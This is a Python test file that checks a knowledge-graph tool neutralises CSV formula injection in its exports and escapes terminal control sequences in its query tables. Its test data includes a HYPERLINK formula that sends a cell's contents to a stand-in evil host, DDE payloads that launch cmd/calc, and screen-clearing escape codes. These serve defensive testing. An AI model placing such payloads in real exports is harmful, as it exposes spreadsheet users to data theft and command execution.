"""CSV/TSV exports safe to open in a spreadsheet, tables safe to print in a terminal.

Labels come from scraped sources, so a place may be called ``=HYPERLINK("http://evil","click")``.
Every CSV graphkit writes (query results, the relations export, the link review file, rejects.csv)
must neutralise such cells with a leading ``'`` (OWASP's CSV-injection advice) while numbers stay
numbers, and ``--raw-csv`` must give the values back untouched. The query table must not let a label
retitle or clear the terminal.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from rdflib import Literal, URIRef

from graphkit.ingest.ledger import Ledger
from graphkit.ingest.report import rejects_csv
from graphkit.rdf.files import csv_text, neutralise_formula
from graphkit.relations.export import render_relations
from graphkit.sparql.results import SelectResult, render
from graphkit.wikidata.linking import render_review_csv

from .conftest import run_cli

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_leading_quote(text):
    assert neutralise_formula(text) == "'" + text
    rows = list(csv.reader(io.StringIO(csv_text([("label",), (text,)]), newline="")))
    assert rows == [["label"], ["'" + text]]


@pytest.mark.parametrize("number", ["-3", "-3.5", "+4", "-1e5", "2009", "-0,5"])
def test_numbers_stay_numbers(number):
    assert neutralise_formula(number) == number


@pytest.mark.parametrize("text", ["Assisi", "Kōya-chō", "São Paulo", "'quoted", "a=b", "", "https://x.org/a"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise_formula(text) == text


def test_query_csv_and_tsv_neutralise_and_raw_does_not():
    r = SelectResult(
        ("label", "n"),
        ((Literal(HOSTILE[0]), Literal(-3)), (Literal("@x"), Literal(2.5)), (URIRef("https://x.org/a"), None)),
    )
    rows = list(csv.reader(io.StringIO(render(r, "csv"))))
    assert rows == [["label", "n"], ["'" + HOSTILE[0], "-3"], ["'@x", "2.5"], ["https://x.org/a", ""]]
    raw = list(csv.reader(io.StringIO(render(r, "csv", raw=True))))
    assert raw[1] == [HOSTILE[0], "-3"]
    tsv = render(r, "tsv").splitlines()
    assert tsv[1].split("\t")[0].startswith("\"'=HYPERLINK(")
    assert tsv[1].split("\t")[1] == '"-3"^^<http://www.w3.org/2001/XMLSchema#integer>'
    assert render(r, "tsv", raw=True).splitlines()[1].startswith('"=HYPERLINK(')


def test_query_command_csv_and_raw_flag():
    q = 'SELECT ?x WHERE { VALUES ?x { "=HYPERLINK(\\"http://e.example\\",\\"c\\")" "-3" -3 "Assisi" } }'
    proc = run_cli("query", q, "--graph", "data/seed/assisi-koya.ttl", "-f", "csv", check=True)
    assert list(csv.reader(io.StringIO(proc.stdout))) == [
        ["x"],
        ['\'=HYPERLINK("http://e.example","c")'],
        ["-3"],
        ["-3"],
        ["Assisi"],
    ]
    raw = run_cli("query", q, "--graph", "data/seed/assisi-koya.ttl", "-f", "csv", "--raw-csv", check=True)
    assert raw.stdout.splitlines()[1] == '"=HYPERLINK(""http://e.example"",""c"")"'


def test_query_table_escapes_terminal_controls():
    q = 'SELECT ?x WHERE { VALUES ?x { "A\\u001b]0;owned\\u0007B" "\\u001b[2Jgone" "x\\u009by" "\\u202etxt" } }'
    proc = run_cli("query", q, "--graph", "data/seed/assisi-koya.ttl", check=True)
    assert not any(c in proc.stdout for c in "\x1b\x07\x9b\u202e")
    lines = [line.rstrip() for line in proc.stdout.splitlines()]
    assert lines[2:6] == ["A\\x1b]0;owned\\x07B", "\\x1b[2Jgone", "x\\x9by", "\\u202etxt"]


def test_relations_export_csv_is_safe(tmp_path):
    ttl = tmp_path / "hostile.ttl"
    ttl.write_text(
        """@prefix gk: <https://w3id.org/graphkit/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
<https://w3id.org/graphkit/id/place/h1> a gk:Municipality ; rdfs:label "=HYPERLINK(\\"http://e.example\\")"@en .
<https://w3id.org/graphkit/id/place/h2> a gk:Municipality ; rdfs:label "@cmd"@en .
<https://w3id.org/graphkit/id/relation/h> a gk:MunicipalRelation ;
  gk:party <https://w3id.org/graphkit/id/place/h1>, <https://w3id.org/graphkit/id/place/h2> .
""",
        encoding="utf-8",
    )
    proc = run_cli("export", "relations", "--graph", str(ttl), check=True)
    row = next(csv.DictReader(io.StringIO(proc.stdout)))
    assert (row["party1_label"], row["party2_label"]) == ('\'=HYPERLINK("http://e.example")', "'@cmd")
    raw = run_cli("export", "relations", "--graph", str(ttl), "--raw-csv", check=True)
    assert next(csv.DictReader(io.StringIO(raw.stdout)))["party1_label"] == '=HYPERLINK("http://e.example")'
    assert render_relations([{"party1_label": "-1+2"}], "json").count("-1+2") == 1  # JSON is not a spreadsheet


def test_link_review_csv_is_safe():
    rows = [{"place": "https://w3id.org/graphkit/id/place/x", "place_label": "-2+3", "score": "-0.5", "qid": "Q1"}]
    got = next(csv.DictReader(io.StringIO(render_review_csv(rows))))
    assert (got["place_label"], got["score"], got["qid"]) == ("'-2+3", "-0.5", "Q1")
    assert next(csv.DictReader(io.StringIO(render_review_csv(rows, raw=True))))["place_label"] == "-2+3"


def test_rejects_csv_is_safe():
    ledger = Ledger()
    ledger.reject("hekman-twincities", "twin_cities_raw.csv:7", "=cmd|' /C calc'!A0", "unresolved-country", "")
    text = rejects_csv(SimpleNamespace(ledger=ledger))  # type: ignore[arg-type]
    assert next(csv.DictReader(io.StringIO(text)))["item"] == "'=cmd|' /C calc'!A0"
